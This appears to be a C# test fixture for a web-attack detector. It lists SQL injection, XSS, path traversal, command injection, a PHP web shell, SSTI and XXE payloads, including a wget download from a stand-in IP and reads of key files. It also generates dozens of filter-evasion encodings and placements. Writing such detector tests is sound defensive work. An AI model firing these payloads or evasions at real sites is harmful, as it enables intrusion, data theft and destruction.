using System.Text;

namespace Palisade.Engine.Tests.Detect.Web;

/// <summary>Payloads of each class in our own words, and what people do to hide them.</summary>
internal static partial class Payloads
{
    /// <summary>Class and value; a value of two classes names both.</summary>
    public static readonly (string Class, string Text)[] All =
    [
        ("sqli", "7' union select login,secret from staff-- "),
        ("sqli", "7' or 'k'='k"),
        ("sqli", "7') and sleep(4)#"),
        ("sqli", "7';drop table staff-- "),
        ("sqli", "7 and extractvalue(1,concat(0x7e,(select version())))"),
        ("xss", "<script>confirm(17)</script>"),
        ("xss", "<img src=q onerror=confirm(17)>"),
        ("xss", "\"><svg/onload=confirm(17)>"),
        ("xss", "\" onfocus=confirm(17) autofocus=\""),
        ("path_traversal lfi", "../../../../srv/keys/site.key"),
        ("path_traversal lfi", "..\\..\\..\\windows\\win.ini"),
        ("lfi path_traversal", "/etc/passwd"),
        ("cmdi", ";cat /srv/keys/site.key"),
        ("cmdi", "|whoami"),
        ("cmdi", "$(whoami)"),
        ("cmdi", "&& wget http://192.0.2.9/k -O /tmp/k"),
        ("rce", "<?php system($_GET['q']); ?>"),
        ("rce", "__import__('os').system('id')"),
        ("rce ssti", "T(java.lang.Runtime).getRuntime().exec('id')"),
        ("ssti", "{{19*23}}"),
        ("ssti", "${19*23}"),
        ("ssti", "{{config.__class__.__init__.__globals__}}"),
        ("xxe", "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///srv/keys/site.key\">]><r>&e;</r>"),
    ];

    /// <summary>As the value of a parameter must be sent at least.</summary>
    public static string Sent(string text) => string.Concat(Encoding.UTF8.GetBytes(text).Select(b => b is > 0x20 and < 0x7F and not ((byte)'&' or (byte)'#' or (byte)'+' or (byte)'%') ? ((char)b).ToString() : $"%{b:X2}"));

    public static string Percent(string text) => string.Concat(Encoding.UTF8.GetBytes(text).Select(b => $"%{b:X2}"));

    private static string Each(string text, Func<char, string> of) => string.Concat(text.Select(of));

    private static bool IsSign(char c) => c is not ' ' && !char.IsAsciiLetterOrDigit(c);

    /// <summary>Ways to write a text that decoders of servers undo.</summary>
    public static readonly (string Name, Func<string, string> Apply)[] Encodings =
    [
        ("escaped", Percent),
        ("escaped twice", t => Percent(Percent(t))),
        ("escaped three times", t => Percent(Percent(Percent(t)))),
        ("escapes in lower case", t => Percent(t).ToLowerInvariant()),
        ("signs alone escaped", t => Each(t, c => IsSign(c) || c == ' ' ? Percent(c.ToString()) : c.ToString())),
        ("letters alone escaped", t => Each(t, c => char.IsAsciiLetter(c) ? Percent(c.ToString()) : Sent(c.ToString()))),
        ("every second escaped twice", t => string.Concat(t.Select((c, i) => i % 2 == 0 ? Percent(Percent(c.ToString())) : Percent(c.ToString())))),
        ("percent of the percent alone", t => Percent(t).Replace("%", "%25", StringComparison.Ordinal)),
        ("%u", t => Each(t, c => $"%u{(int)c:x4}")),
        ("%U", t => Each(t, c => $"%U{(int)c:X4}")),
        ("%u of the signs", t => Each(t, c => IsSign(c) ? $"%u{(int)c:x4}" : Percent(c.ToString()))),
        ("%u of wide signs", t => Each(t, c => IsSign(c) ? $"%uff{c - 0x20:x2}" : Percent(c.ToString()))),
        ("wide", t => Each(t, c => Percent(c is > ' ' and < '\x7f' ? ((char)(c + 0xFEE0)).ToString() : c.ToString()))),
        ("wide, escaped twice", t => Percent(Each(t, c => Percent(c is > ' ' and < '\x7f' ? ((char)(c + 0xFEE0)).ToString() : c.ToString())))),
        ("overlong dots, slashes and brackets", t => Each(t, c => c is '.' or '/' or '\\' or '<' or '>' ? $"%{0xC0 | c >> 6:X2}%{0x80 | c & 63:X2}" : Percent(c.ToString()))),
        ("overlong in three bytes", t => Each(t, c => c is '.' or '/' or '\\' or '<' or '>' ? $"%E0%{0x80 | c >> 6:X2}%{0x80 | c & 63:X2}" : Percent(c.ToString()))),
        ("\\x", t => Each(t, c => $"\\x{(int)c:X2}")),
        ("\\u", t => Each(t, c => $"\\u{(int)c:x4}")),
        ("entities", t => Percent(Each(t, c => $"&#{(int)c};"))),
        ("entities in hex", t => Percent(Each(t, c => $"&#x{(int)c:x};"))),
        ("entities with zeros", t => Percent(Each(t, c => $"&#{(int)c:0000000};"))),
        ("named entities", t => Percent(t.Replace("&", "&amp;", StringComparison.Ordinal).Replace("<", "&lt;", StringComparison.Ordinal).Replace(">", "&gt;", StringComparison.Ordinal).Replace("\"", "&quot;", StringComparison.Ordinal).Replace("'", "&apos;", StringComparison.Ordinal).Replace("(", "&lpar;", StringComparison.Ordinal).Replace(")", "&rpar;", StringComparison.Ordinal))),
        ("mixed case", t => Percent(string.Concat(t.Select((c, i) => i % 2 == 0 ? char.ToUpperInvariant(c) : c)))),
        ("upper case", t => Percent(t.ToUpperInvariant())),
        ("base64", t => Convert.ToBase64String(Encoding.UTF8.GetBytes(t))),
        ("base64, escaped", t => Percent(Convert.ToBase64String(Encoding.UTF8.GetBytes(t)))),
        ("base64 with padding escaped", t => Convert.ToBase64String(Encoding.UTF8.GetBytes(t)).Replace("=", "%3D", StringComparison.Ordinal).Replace("+", "%2B", StringComparison.Ordinal).Replace("/", "%2F", StringComparison.Ordinal)),
        ("base64 without padding", t => Convert.ToBase64String(Encoding.UTF8.GetBytes(t)).TrimEnd('=')),
        ("base64 of URLs", t => Convert.ToBase64String(Encoding.UTF8.GetBytes(t)).TrimEnd('=').Replace('+', '-').Replace('/', '_')),
        ("typographic quotes", t => Percent(t.Replace('\'', '\u2019').Replace('"', '\u201D'))),
        ("modifier quotes", t => Percent(t.Replace('\'', '\u02BC').Replace('"', '\u02BA'))),
        ("primes", t => Percent(t.Replace('\'', '\u2032').Replace('"', '\u2033'))),
    ];

    /// <summary>Each payload in each encoding, as a parameter's value. What base64 holds is read from ten bytes on.</summary>
    public static IEnumerable<(string Class, string Text, string How, string Target)> Encoded() =>
        All.SelectMany(p => Encodings.Where(e => p.Text.Length > 10 || !e.Name.StartsWith("base64", StringComparison.Ordinal)).Select(e => (p.Class, p.Text, e.Name, "/item?v=" + e.Apply(p.Text))));

    /// <summary>Ways to surround a text.</summary>
    public static readonly (string Name, Func<string, string> Apply)[] Surroundings =
    [
        ("a NUL in front", t => "%00" + Percent(t)),
        ("a NUL behind", t => Percent(t) + "%00"),
        ("a NUL and a name behind", t => Percent(t) + "%00.jpg"),
        ("line breaks around", t => "%0d%0a" + Percent(t) + "%0a"),
        ("blanks around", t => "+%09+" + Percent(t) + "++"),
        ("8 KB of words in front", t => string.Concat(Enumerable.Repeat("lorem+ipsum+", 700)) + Percent(t)),
        ("8 KB of words behind", t => Percent(t) + string.Concat(Enumerable.Repeat("+lorem+ipsum", 700))),
        ("8 KB of letters in front", t => new string('a', 8192) + "%20" + Percent(t)),
        ("8 KB of letters behind", t => Percent(t) + "%20" + new string('a', 8192)),
        ("8 KB of digits on both sides", t => new string('1', 8192) + "%20" + Percent(t) + "%20" + new string('2', 8192)),
        ("8 KB of blanks in front", t => new string('+', 8192) + Percent(t)),
        ("40 KB of letters in front", t => new string('a', 40_960) + "%20" + Percent(t)),
    ];

    /// <summary>Places a value may stand in.</summary>
    public static readonly (string Name, Func<string, string> Apply)[] Places =
    [
        ("parameter", t => "/item?v=" + Percent(t)),
        ("parameter as it is", t => "/item?v=" + Sent(t)),
        ("last of many", t => "/item?" + string.Concat(Enumerable.Range(0, 40).Select(i => $"p{i}=v{i}&")) + "v=" + Percent(t)),
        ("behind hundreds", t => "/item?" + string.Concat(Enumerable.Range(0, 600).Select(i => $"p{i}=v{i}&")) + "v=" + Percent(t)),
        ("a repeated name, second", t => "/item?v=1&v=" + Percent(t)),
        ("a repeated name, first", t => "/item?v=" + Percent(t) + "&v=1"),
        ("a list", t => "/item?v[]=1&v[]=" + Percent(t) + "&v[]=3"),
        ("a name in brackets", t => "/item?filter[name][0]=" + Percent(t)),
        ("no name", t => "/item?" + Percent(t)),
        ("an empty name", t => "/item?=" + Percent(t)),
        ("semicolons between", t => "/item?a=1;v=" + Percent(t) + ";b=2"),
        ("a second question mark", t => "/item?a=1?v=" + Percent(t)),
        ("JSON in a parameter", t => "/item?q=" + Percent("{\"a\":1,\"v\":\"" + t.Replace("\\", "\\\\", StringComparison.Ordinal).Replace("\"", "\\\"", StringComparison.Ordinal) + "\"}")),
        ("absolute target", t => "http://shop.example/item?v=" + Percent(t)),
        ("absolute target with a port and a user", t => "https://a:b@shop.example:8443/item?v=" + Percent(t)),
        ("behind a fragment", t => "/item?a=1#v=" + Percent(t)),
        ("double slashes", t => "//item//x?v=" + Percent(t)),
    ];
}
